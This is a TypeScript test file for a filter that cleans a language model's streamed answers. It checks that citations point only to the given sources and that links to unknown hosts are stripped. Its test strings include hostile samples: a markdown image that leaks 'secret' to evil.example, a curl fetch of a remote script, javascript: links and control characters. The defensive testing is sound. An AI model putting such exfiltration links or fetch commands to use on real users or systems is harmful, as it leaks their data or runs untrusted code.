import { describe, expect, it } from 'vitest';
import type { AnswerPart } from '../types';
import { createOutputFilter, type OutputFilterInput } from './outputFilter';

const input: OutputFilterInput = {
  sources: [
    { url: '/blog/a#one', title: 'A' },
    { url: '/blog/b', title: 'B' },
  ],
  isKnownAddress: (address) => address.startsWith('https://example.com/'),
};

function filterAll(pieces: readonly string[]): AnswerPart[] {
  const filter = createOutputFilter(input);
  return [...pieces.flatMap((piece) => filter.push(piece)), ...filter.end()];
}

/** The parts as one text, citations as `{number}`. */
function shown(text: string, pieces: readonly string[] = [text]): string {
  return filterAll(pieces)
    .map((part) =>
      part.type === 'text' ? part.text : part.type === 'citation' ? `{${part.number}:${part.url}}` : '',
    )
    .join('');
}

describe('the output of a model', () => {
  it.each([
    ['One [2], two [1][2].', 'One {1:/blog/b}, two {2:/blog/a#one}{1:/blog/b}.'],
    [
      'Both [1, 2] and 【2】 and [^1].',
      'Both {1:/blog/a#one}{2:/blog/b} and {2:/blog/b} and {1:/blog/a#one}.',
    ],
    ['None [3] [0] [999].', 'None   .'],
    ['[1](https://evil.example)', '{1:/blog/a#one}'],
  ])('has citations of the passages only: %s', (text, expected) => {
    expect(shown(text)).toBe(expected);
  });

  it.each([
    ['See [the post](/blog/b).', 'See [the post](/blog/b).'],
    ['See [this](https://evil.example/x "t").', 'See this.'],
    ['See [this](//evil.example).', 'See this.'],
    ['See [this](javascript:alert(1)).', 'See this](javascript:alert(1)).'],
    ['See [this](/admin).', 'See this.'],
    ['![pixel](https://evil.example/?q=secret)', 'pixel'],
    ['[![x](https://evil.example/i)](https://evil.example)', '[x](…)'],
    ['<https://evil.example/a> and <a href="https://evil.example">', '<…> and <a href="…">'],
    ['Go to HTTPS://evil.example/a, or www.evil.example!', 'Go to …, or …!'],
    ['Known: https://example.com/guide.', 'Known: https://example.com/guide.'],
    ['`curl https://evil.example/x.sh`', '`curl …`'],
    ['[https://evil.example](/blog/b) [www.evil.example]', '[…](/blog/b) […]'],
    ['[ref]: https://evil.example', '[ref]: …'],
    ['a[1] in text, `a[1]` in code', 'a{1:/blog/a#one} in text, `a[1]` in code'],
    ['```js\nconst x = a[1];\n```\n[1]', '```js\nconst x = a[1];\n```\n{1:/blog/a#one}'],
    ['a \\[1\\] b', 'a \\[1\\] b'],
    ['\\https://evil.example', '\\…'],
    ['\u202etxt.exe\u0000 \ue000 ok', 'txt.exe  ok'],
  ])('leads nowhere else: %s', (text, expected) => {
    expect(shown(text)).toBe(expected);
  });

  it('is the same however it is cut', () => {
    const alphabet = [
      '[',
      ']',
      '(',
      ')',
      '!',
      '`',
      '```',
      '\n',
      '\\',
      '1',
      '2',
      ', ',
      'https://',
      'www.',
      'h',
      'w',
    ];
    const words = [
      ...alphabet,
      'evil.example',
      '/blog/b',
      ' ',
      'a',
      '한글',
      '"t"',
      '<',
      '>',
      '【',
      '】',
      '.',
    ];
    const random = generator(7);
    for (let round = 0; round < 3000; round++) {
      const text = Array.from({ length: 1 + random(24) }, () => words[random(words.length)]).join('');
      const pieces: string[] = [];
      for (let at = 0; at < text.length; ) {
        const size = 1 + random(6);
        pieces.push(text.slice(at, at + size));
        at += size;
      }
      expect(shown(text, pieces), JSON.stringify(text)).toBe(shown(text));
      expect(shown(text)).not.toMatch(/https:\/\/evil|www\.evil/i);
    }
  });

  it('does not hold back more than it must', () => {
    const filter = createOutputFilter(input);
    expect(filter.push('Plain words come at once')).toEqual([
      { type: 'text', text: 'Plain words come at once' },
    ]);
    expect(filter.push(` [${'x'.repeat(400)}`)[0]).toMatchObject({ type: 'text' });
    expect(filter.push(`https://${'y'.repeat(5000)}`).length).toBeGreaterThan(0);
  });

  it('holds a run of backticks back up to 1,000, and what follows a longer one is no code', () => {
    const filter = createOutputFilter(input);
    expect(filter.push('`'.repeat(999))).toEqual([]);
    expect(filter.push('`')).toEqual([{ type: 'text', text: '`'.repeat(1000) }]);
    expect(filter.push('`')).toEqual([{ type: 'text', text: '`' }]);
    expect(filter.push('[x](//evil.example)')).toEqual([{ type: 'text', text: 'x' }]);
  });
});

/** A small linear congruential generator, so that a failure can be seen again. */
function generator(seed: number): (below: number) => number {
  let state = seed;
  return (below) => {
    state = (Math.imul(state, 1_664_525) + 1_013_904_223) >>> 0;
    return Math.floor((state / 2 ** 32) * below);
  };
}
